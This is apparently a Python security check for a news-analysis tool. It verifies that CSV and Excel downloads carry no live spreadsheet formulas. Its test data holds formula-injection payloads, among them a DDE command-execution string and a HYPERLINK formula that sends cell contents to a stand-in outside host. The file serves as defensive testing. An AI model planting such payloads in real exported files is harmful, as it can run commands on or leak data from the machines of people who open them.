"""Whether any cell of a download is one that a spreadsheet would run."""

import csv
import io
import zipfile
from collections.abc import Iterator, Sequence

import pandas as pd
from openpyxl import load_workbook
from pandas.testing import assert_frame_equal
from security_checks import Check

from analysis import analyse, downloads
from analysis.articles import Article, read_files
from analysis.columns import TEXT, column_kind
from analysis.compare import differences_frame, distinctive_words_frame
from analysis.scored_csv import read_scored_csv, to_csv
from analysis.tables import sentences_frame
from analysis.voice import View

# What OWASP's page on CSV injection names, full-width forms among them.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://far-away.invalid/"&A1;"open")',
    "IMPORTXML(CONCAT(A1),B1)",
    "'=1+1",
)
_TEXT = (
    "{cell} stood on the board of the harbour council. “{cell}”, said the chair. The eastern "
    "quay may close in May.\n\n{cell}\n\nResidents were furious, according to {cell}."
)


def check() -> list[Check]:
    """Make every download of hostile articles, look at every cell, and read them back."""
    cells, live = 0, []
    analysis = analyse(_articles())
    for view in ("all", "outlet"):
        for name, data in _tables(analysis, view):
            own = [cell for row in csv.reader(io.StringIO(_text(data))) for cell in row]
            cells += len(own)
            live += [f"{name}: {cell[:60]!r}" for cell in own if _runs(cell)]
    book, formulas = _workbook(downloads.excel(analysis))
    written = _as_they_are()
    back = read_scored_csv(io.BytesIO(to_csv(written)))
    in_cells = [cell for row in csv.reader(io.StringIO(_text(to_csv(written)))) for cell in row]
    live += [f"written as they are: {cell[:60]!r}" for cell in in_cells if _runs(cell)]
    sentences = sentences_frame(analysis)
    exact = _same(back, written) and _same(
        read_scored_csv(io.BytesIO(to_csv(sentences, bom=True))), sentences
    )
    return [
        Check(
            "Formula cells: live in CSV downloads",
            f"{len(live)} of {cells + len(in_cells):,}",
            "0",
            not live,
            f"{len(STARTS)} starts times {len(_FORMULAS)} formulas as outlet, title, author, "
            "address and text; all tables, zip included; read back "
            f"{'exactly' if exact else 'with differences'}.",
            tuple(live),
        ),
        Check(
            "Formula cells: read back exactly",
            "yes" if exact else "no",
            "yes",
            exact,
            "Sentence table and a frame of hostile cells, types included.",
        ),
        Check(
            "Formula cells: live in the Excel workbook",
            f"{len(formulas)} of {book:,}",
            "0",
            not formulas,
            "Every cell of every sheet, read with openpyxl.",
            tuple(formulas),
        ),
    ]


def _hostile() -> list[str]:
    return [start + formula for start in STARTS for formula in _FORMULAS]


def _articles() -> Sequence[Article]:
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(["outlet", "title", "author", "url", "text"])
    for cell in _hostile():
        rows.writerow([cell, cell, cell, cell, _TEXT.format(cell=cell)])
    return read_files([("=1+1.csv", out.getvalue().encode())], any_language=True).articles


def _tables(analysis: "object", view: View) -> Iterator[tuple[str, bytes]]:
    from analysis.viewpoint import in_voice

    seen = in_voice(analysis, view)  # type: ignore[arg-type]
    compared = {
        "differences": differences_frame(seen, "article"),
        "words": distinctive_words_frame(seen),
    }
    yield from downloads.offered_csvs(seen, "tonelens", compared).items()
    with zipfile.ZipFile(io.BytesIO(downloads.archive(seen, compared, bom=True))) as packed:
        for name in packed.namelist():
            if name.endswith(".csv"):
                yield f"zip/{name}", packed.read(name)


def _text(data: bytes) -> str:
    return data.decode("utf-8-sig")


def _runs(cell: str) -> bool:
    """Return whether a spreadsheet would take a cell for a formula; a number is none."""
    if not cell.startswith(STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return cell.startswith(("\t", "\r", "\n"))


def _as_they_are() -> pd.DataFrame:
    """Return a frame of the hostile cells, which articles would have cleaned a little."""
    cells = pd.Series(_hostile(), dtype=TEXT)
    assert column_kind("outlet") == TEXT
    return pd.DataFrame({"outlet": cells, "text": cells, "title": "'" + cells})


def _same(one: pd.DataFrame, other: pd.DataFrame) -> bool:
    try:
        assert_frame_equal(one, other, check_exact=True)
    except AssertionError:
        return False
    return True


def _workbook(data: bytes) -> tuple[int, list[str]]:
    """Return how many cells a workbook has, and which of them are formulas or links."""
    count, live = 0, []
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                count += 1
                if cell.data_type == "f" or cell.hyperlink is not None:
                    live.append(f"{sheet.title}!{cell.coordinate}: {str(cell.value)[:60]!r}")
    return count, live
